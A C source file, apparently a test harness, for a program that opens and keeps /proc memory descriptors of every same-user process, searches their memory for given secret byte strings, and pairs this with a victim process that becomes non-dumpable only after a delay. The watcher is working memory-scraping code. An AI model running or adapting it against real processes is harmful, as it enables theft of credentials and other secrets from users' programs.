/* Reads what it can of the memory of all other processes of its user, as any program of the user may try to.
 *
 *   reader watch FOLDER    opens the memory of each process as early as it can, and keeps the descriptors.
 *                          When FOLDER/search is there it looks for all secrets of that file (lines of a name
 *                          and hexadecimal bytes), writes FOLDER/found, and removes FOLDER/search.
 *   reader victim          can be read for a moment, refuses it then, and is given secrets (as lines) only
 *                          afterwards: what a program must not do.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

enum { PIDS = 1 << 22, SECRETS = 32, LONGEST = 64, WINDOW = 1 << 20 };

static struct kept { int memory, maps; } *kept; /* by process id; 0 is none */
static struct secret { char name[64]; unsigned char bytes[LONGEST]; size_t length; } secrets[SECRETS];
static int secret_count;
static unsigned char window[WINDOW + LONGEST];

static int open_of(int pid, const char *name)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return open(path, O_RDONLY | O_CLOEXEC);
}

static void keep(int *place, int fd)
{
    if (fd < 0)
        return; /* what was opened before stays good */
    if (*place)
        close(*place);
    *place = fd;
}

static void look(void (*at)(int pid, void *), void *argument)
{
    DIR *processes = opendir("/proc");
    struct dirent *entry;
    while (processes && (entry = readdir(processes)))
        if (isdigit((unsigned char)*entry->d_name) && atoi(entry->d_name) != getpid())
            at(atoi(entry->d_name), argument);
    closedir(processes);
}

static void open_again(int pid, void *unused)
{
    (void)unused;
    /* A process that executes another program has another memory: the last one that may be opened counts. */
    keep(&kept[pid].memory, open_of(pid, "mem"));
    keep(&kept[pid].maps, open_of(pid, "maps"));
}

static ssize_t read_kept(int pid, void *buffer, size_t size, unsigned long from)
{
    return pread(kept[pid].memory, buffer, size, (off_t)from);
}

static ssize_t read_now(int pid, void *buffer, size_t size, unsigned long from)
{
    struct iovec local = {buffer, size}, remote = {(void *)from, size};
    return process_vm_readv(pid, &local, 1, &remote, 1, 0);
}

static void search(int pid, int maps, ssize_t (*read_from)(int, void *, size_t, unsigned long), const char *how,
                   FILE *found)
{
    char line[4096], mode[5];
    unsigned long begin, end;
    FILE *lines = fdopen(dup(maps), "r");
    rewind(lines);
    while (fgets(line, sizeof line, lines)) {
        if (sscanf(line, "%lx-%lx %4s", &begin, &end, mode) != 3 || *mode != 'r')
            continue;
        for (unsigned long at = begin; at < end; at += WINDOW) {
            size_t wanted = end - at < sizeof window ? end - at : sizeof window;
            ssize_t count = read_from(pid, window, wanted, at);
            for (int i = 0; count > 0 && i < secret_count; i++)
                if (memmem(window, (size_t)count, secrets[i].bytes, secrets[i].length))
                    fprintf(found, "%s %d %s\n", how, pid, secrets[i].name);
        }
    }
    fclose(lines);
}

static void search_both_ways(int pid, void *found)
{
    int maps = open_of(pid, "maps");
    if (maps >= 0) {
        search(pid, maps, read_now, "now", found);
        close(maps);
    }
    if (kept[pid].memory && kept[pid].maps)
        search(pid, kept[pid].maps, read_kept, "kept", found);
}

static void read_secrets(FILE *file)
{
    char hex[2 * LONGEST + 1];
    for (secret_count = 0; secret_count < SECRETS; secret_count++) {
        struct secret *secret = &secrets[secret_count];
        if (fscanf(file, "%63s %128s", secret->name, hex) != 2)
            break;
        secret->length = strlen(hex) / 2;
        for (size_t i = 0; i < secret->length; i++)
            sscanf(hex + 2 * i, "%2hhx", &secret->bytes[i]);
    }
}

static int watch(const char *folder)
{
    if (chdir(folder))
        return 1;
    kept = calloc(PIDS, sizeof *kept);
    for (;;) {
        look(open_again, NULL);
        FILE *order = fopen("search", "r");
        if (!order)
            continue;
        read_secrets(order);
        fclose(order);
        FILE *found = fopen("found.new", "w");
        look(search_both_ways, found);
        fclose(found);
        unlink("search");
        rename("found.new", "found");
    }
}

static int victim(void)
{
    static char secret[4096];
    struct timespec moment = {.tv_nsec = 300000000};
    nanosleep(&moment, NULL);
    prctl(PR_SET_DUMPABLE, 0);
    ssize_t length = read(0, secret, sizeof secret);
    puts("ready");
    fflush(stdout);
    while (length > 0)
        pause();
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 3 && !strcmp(argv[1], "watch"))
        return watch(argv[2]);
    return argc == 2 && !strcmp(argv[1], "victim") ? victim() : 2;
}
